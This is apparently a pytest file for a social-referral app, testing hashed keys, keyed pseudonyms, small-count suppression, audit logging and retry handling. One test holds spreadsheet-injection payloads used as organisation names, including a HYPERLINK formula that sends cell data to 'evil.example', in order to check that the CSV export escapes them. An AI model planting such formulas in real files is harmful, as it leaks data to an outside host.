"""Referral records and reports protect people: keys scoped and hashed, keyed pseudonyms, no formulas in
spreadsheets, small counts suppressed everywhere, and an audit log that outlives accounts."""

import csv
import datetime as dt
import hashlib
import io

import pytest
from sqlalchemy import func, select

from socialmap import clock
from socialmap.accounts.models import Team
from socialmap.accounts.services import create_token
from socialmap.referrals.models import AuditEntry, Referral
from tests.factories import make_org, make_service, make_user, municipality, personas, place

TODAY = dt.date(2026, 11, 22)


@pytest.fixture
def cast(db, monkeypatch):
    people = personas()
    people.service = make_service(people.own, name="Boodschappenhulp Heeg", place_name="Heeg",
                                  alternatives=("household_help",))  # fmt: skip
    people.other_worker = make_user("professional", "worker@boalsert.example.org", team="Gebiedsteam Boalsert")
    db.session.commit()
    monkeypatch.setattr(clock, "today", lambda: TODAY)
    return people


def api_refer(client, db, cast, user, key):
    token, _ = create_token(user)
    db.session.commit()
    return client.post("/api/v1/referrals", json={"service_id": cast.service.id, "instead_of": "none", "place": "Heeg"},
                       headers={"Authorization": f"Bearer {token}", "Idempotency-Key": key})  # fmt: skip


def test_another_worker_with_the_same_idempotency_key_records_their_own_decision(client, db, cast):
    first = api_refer(client, db, cast, cast.social_worker, "retry-1")
    second = api_refer(client, db, cast, cast.other_worker, "retry-1")
    assert (first.status_code, second.status_code) == (201, 201)
    assert second.get_json()["team"] == "Gebiedsteam Boalsert" and second.get_json()["id"] != first.get_json()["id"]
    assert {r.team.name for r in db.session.query(Referral)} == {"Gebiedsteam Snits", "Gebiedsteam Boalsert"}
    assert api_refer(client, db, cast, cast.other_worker, "retry-1").status_code == 200  # their own retry counts once
    assert db.session.query(Referral).count() == 2


def test_another_worker_with_the_same_form_key_records_their_own_decision(client, auth, db, cast):
    form = {"service_id": cast.service.id, "instead_of": "none", "place": "Heeg", "submission_key": "same"}
    for worker in (cast.social_worker, cast.other_worker):
        auth.login(worker)
        client.post("/verwijzingen", data=form)
        client.post("/verwijzingen", data=form)  # a double click
        auth.logout()
    assert sorted(r.team.name for r in db.session.query(Referral)) == ["Gebiedsteam Boalsert", "Gebiedsteam Snits"]


def test_a_case_number_sent_as_idempotency_key_never_reaches_the_database(client, db, cast):
    assert api_refer(client, db, cast, cast.social_worker, "CASE-2026-004711").status_code == 201
    referral = db.session.query(Referral).one()
    stored = " ".join(str(value) for value in referral.__dict__.values())
    assert "4711" not in stored
    assert len(referral.submission_key) == 64 and int(referral.submission_key, 16) >= 0
    assert api_refer(client, db, cast, cast.social_worker, "CASE-2026-004711").status_code == 200  # retry still safe


def test_the_worker_pseudonym_is_keyed_not_a_hash_of_the_user_id(client, app, db, cast):
    api_refer(client, db, cast, cast.social_worker, "k")
    worker = db.session.query(Referral).one().worker
    assert worker == cast.social_worker.pseudonym and len(worker) == 12
    unkeyed = hashlib.sha256(f"socialmap-worker:{cast.social_worker.id}".encode()).hexdigest()[:12]
    assert worker != unkeyed
    app.config["PSEUDONYM_KEY"] = "another secret"
    assert cast.social_worker.pseudonym != worker  # who holds the code but not the key cannot recompute it


@pytest.fixture
def referrals(db):
    """add(service, team, outcomes) stores decisions directly; outcomes is a list like ["helped", None]."""
    counter = iter(range(10_000))

    def add(service, team, outcomes, instead_of="household_help", day="2026-10-05"):
        for outcome in outcomes:
            db.session.add(Referral(service=service, team=team, worker="abc", instead_of=instead_of,
                                    place=place("Heeg"), decided_on=dt.date.fromisoformat(day), outcome=outcome,
                                    submission_key=f"seed-{next(counter)}"))  # fmt: skip
        db.session.commit()

    return add


@pytest.fixture
def editor(db):
    people = personas()
    token, _ = create_token(people.municipal_editor)
    db.session.commit()
    people.token = token
    people.team_a = people.social_worker.teams[0]  # Gebiedsteam Snits
    people.team_b = Team(name="Gebiedsteam Boalsert", municipality_id=municipality("Súdwest-Fryslân").id)
    db.session.add(people.team_b)
    db.session.commit()
    return people


def api_report(client, editor, **args):
    response = client.get("/api/v1/reports/referrals", query_string=args,
                          headers={"Authorization": f"Bearer {editor.token}"})  # fmt: skip
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def test_organisation_names_cannot_become_spreadsheet_formulas(client, auth, db, editor, referrals):
    evil = make_org('=HYPERLINK("http://evil.example/?x="&A1;"klik")', municipality_id=editor.own.municipality_id)
    at = make_org("@SUM(1+1)*cmd", municipality_id=editor.own.municipality_id)
    referrals(make_service(evil, name="Dienst", place_name="Heeg"), editor.team_a, ["helped"] * 6)
    referrals(make_service(at, name="Dienst 2", place_name="Heeg"), editor.team_a, ["helped"] * 6)
    auth.login(editor.municipal_editor)
    text = client.get("/rapportages.csv?group_by=organization&lang=nl").get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    names = {row[0] for row in rows[1:]}
    assert names == {"'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")", "'@SUM(1+1)*cmd"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert rows[1][1] == "6"  # numbers stay numbers


def test_every_report_shows_small_counts_as_less_than_five(client, auth, db, editor, referrals):
    """A month of 4 decisions beside a month of 6: the 4 is "< 5" and, as the total is 10, the 6 too."""
    service = make_service(editor.own, name="Eetpunt Heeg", place_name="Heeg")
    referrals(service, editor.team_a, ["helped", "helped", None, "partly"], day="2026-09-03")
    referrals(service, editor.team_a, ["helped"] * 5 + ["escalated"], day="2026-10-03")
    body = api_report(client, editor, group_by="month")
    assert body["summary"]["total"] == 10
    assert [(r["key"], r["count"]) for r in body["rows"]] == [("2026-09", "< 5"), ("2026-10", "≥ 5")]
    assert body["rows"][0]["outcomes"] == {"helped": "< 5", "partly": "< 5", "escalated": 0, "did_not_go": 0,
                                           "unknown": 0, "pending": "< 5"}  # fmt: skip
    # October: 5 helped beside 1 escalated in a row of 6 would give the escalated one away, and so would
    # "≥ 5" beside "< 5" in a row of 6 (only 5 + 1 fits): the row's count is hidden too.
    assert body["rows"][1]["outcomes"]["escalated"] == "< 5" and body["rows"][1]["outcomes"]["helped"] == "≥ 5"
    # 10 decisions, 7 helped: the other three, each "< 5", could then only be 1 each.
    assert body["summary"]["outcomes"]["helped"] == "≥ 5" and body["summary"]["outcomes"]["partly"] == "< 5"
    assert body["summary"]["outcome_rates"] == {code: None for code in body["summary"]["outcome_rates"]}
    auth.login(editor.municipal_editor)
    page = client.get("/rapportages?group_by=month&lang=nl").get_data(as_text=True)
    table = page.split('<table class="overview report-table">')[1]
    assert "<td>&lt; 5</td>" in table and "<td>4</td>" not in table and "<td>6</td>" not in table
    chart = page.split('<svg class="chart"')[1].split("</svg>")[0]
    assert ">4<" not in chart and ">6<" not in chart and "&lt; 5" in chart and "<rect" not in chart
    export = client.get("/rapportages.csv?group_by=month&lang=nl").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(export.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][:3] == ["2026-09", "< 5", "< 5"] and rows[2][1] == "≥ 5"


def test_a_hidden_count_cannot_be_recomputed_from_the_total(client, db, editor, referrals):
    service = make_service(editor.own, name="Eetpunt Heeg", place_name="Heeg")
    referrals(service, editor.team_a, ["helped"] * 7)
    referrals(service, editor.team_b, ["helped"] * 2, instead_of="none")
    body = api_report(client, editor, group_by="team")
    counts = {r["key"]: r["count"] for r in body["rows"]}
    assert counts == {"Gebiedsteam Snits": "≥ 5", "Gebiedsteam Boalsert": "< 5"}  # 9 - 7 would give 2
    # 9 decisions, 7 instead of indicated care: the 2 of prevention would follow from the total.
    assert body["summary"]["decisions"]["front_line"] == "≥ 5"
    assert body["summary"]["decisions"]["prevention"] == "< 5"
    assert body["summary"]["substitution_share"] is None


def test_large_enough_numbers_are_shown_exactly_with_their_shares(client, db, editor, referrals):
    service = make_service(editor.own, name="Eetpunt Heeg", place_name="Heeg")
    referrals(service, editor.team_a, ["helped"] * 6 + ["partly"] * 5)
    referrals(service, editor.team_b, ["helped"] * 5 + [None] * 5, instead_of="none")
    body = api_report(client, editor, group_by="team")
    assert {r["key"]: r["count"] for r in body["rows"]} == {"Gebiedsteam Snits": 11, "Gebiedsteam Boalsert": 10}
    assert body["summary"]["decisions"]["front_line"] == 11
    assert body["summary"]["substitution_share"] == 1.0  # no escalations in this period
    assert body["summary"]["outcome_rates"]["helped"] == round(11 / 16, 3)


def test_the_audit_log_still_names_who_exported_after_the_account_is_deleted(client, auth, db, editor):
    auth.login(editor.municipal_editor)
    assert client.get("/rapportages.csv?group_by=team").status_code == 200
    auth.logout()
    pseudonym = editor.municipal_editor.pseudonym
    db.session.delete(editor.municipal_editor)
    db.session.commit()
    entry = db.session.query(AuditEntry).one()
    assert entry.user_id is None
    assert (entry.action, entry.actor, entry.actor_role) == ("report_exported", pseudonym, "municipal_editor")


def test_a_retry_that_races_its_first_attempt_counts_once(client, db, cast, monkeypatch):
    """Two requests with the same key can both pass the "seen before?" check; the unique key then
    decides, and the loser answers with the first record instead of a 500."""
    from socialmap.referrals import services

    assert api_refer(client, db, cast, cast.social_worker, "retry-race").status_code == 201
    real_lookup = services._submitted_before
    calls = []

    def lookup_that_misses_once(worker, hashed_key):  # the other request committed just after our check
        calls.append(hashed_key)
        return None if len(calls) == 1 else real_lookup(worker, hashed_key)

    monkeypatch.setattr(services, "_submitted_before", lookup_that_misses_once)
    response = api_refer(client, db, cast, cast.social_worker, "retry-race")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert len(calls) == 2
    assert db.session.scalar(select(func.count()).select_from(Referral)) == 1
